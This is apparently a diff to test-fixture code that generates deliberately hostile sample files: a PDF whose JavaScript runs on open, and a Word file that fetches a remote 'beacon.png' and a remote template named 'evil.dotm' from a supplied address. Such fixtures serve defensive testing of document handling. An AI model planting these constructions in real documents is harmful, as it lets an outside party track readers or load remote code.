@@ -32,9 +32,9 @@ export async function wordFile(): Promise<Buffer> {
   return Packer.toBuffer(file);
 }
 
-export type PdfOptions = { readonly text?: boolean; readonly password?: string; readonly outline?: boolean };
+export type PdfOptions = { readonly text?: boolean; readonly password?: string; readonly outline?: boolean; /** Run when the file is opened. */ readonly script?: string };
 
-export function pdfFile({ text = true, password, outline = false }: PdfOptions = {}): Promise<Buffer> {
+export function pdfFile({ text = true, password, outline = false, script }: PdfOptions = {}): Promise<Buffer> {
   const pdf = new PdfDocument({ size: 'A4', ...(password === undefined ? {} : { userPassword: password }) });
   const chunks: Buffer[] = [];
   pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
@@ -44,8 +44,15 @@ export function pdfFile({ text = true, password, outline = false }: PdfOptions =
     if (text) pdfPage(pdf, page, outline);
     else pdf.rect(50, 50, 200, 200).fill('gray');
   }
+  if (script !== undefined) addScript(pdf, script);
   pdf.end();
   return ended;
+}
+
+function addScript(pdf: PDFKit.PDFDocument, script: string): void {
+  const action = pdf.ref({ S: 'JavaScript', JS: new String(script) }); // oxlint-disable-line no-new-wrappers -- how pdfkit tells a string from a name
+  action.end('');
+  Object.assign((pdf as unknown as { _root: { data: object } })._root.data, { OpenAction: action });
 }
 
 function pdfPage(pdf: PDFKit.PDFDocument, page: number, outline: boolean): void {
@@ -54,6 +61,32 @@ function pdfPage(pdf: PDFKit.PDFDocument, page: number, outline: boolean): void 
   pdf.font('Helvetica-Bold').fontSize(16).text(`${page + 1}. Chapter ${page + 1}`, 72, 90);
   pdf.font('Helvetica').fontSize(10).text(`This paragraph on page ${page + 1} explains at some length what is to be done, so that it runs over more than one line of the page and must be put together again. It ends here.`, 72, 130);
   pdf.moveDown().text('• a first point').text('• a second point');
+}
+
+const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** A Word file from the XML of its body, with whatever other parts a hostile one has. */
+export function wordFromXml(body: string, parts: Readonly<Record<string, string>> = {}): Promise<Buffer> {
+  return zipOf({
+    '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
+    'word/document.xml': `<?xml version="1.0"?><w:document ${WORD}><w:body>${body}</w:body></w:document>`,
+    ...parts,
+  });
+}
+
+/** A picture and a template that stand elsewhere: opening them would tell their owner who reads. */
+export function externalRelations(address: string): { readonly body: string; readonly parts: Readonly<Record<string, string>> } {
+  const picture = '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="rId7"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
+  const relations = (entries: string): string => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries}</Relationships>`;
+  return {
+    body: `<w:p><w:r><w:t>Text beside a picture.</w:t></w:r></w:p>${picture}`,
+    parts: {
+      'word/_rels/document.xml.rels': relations(`<Relationship Id="rId7" Type="${OFFICE}/image" Target="${address}/beacon.png" TargetMode="External"/>`),
+      'word/_rels/settings.xml.rels': relations(`<Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="${address}/evil.dotm" TargetMode="External"/>`),
+    },
+  };
 }
 
 export function zipOf(entries: Readonly<Record<string, Buffer | string>>): Promise<Buffer> {
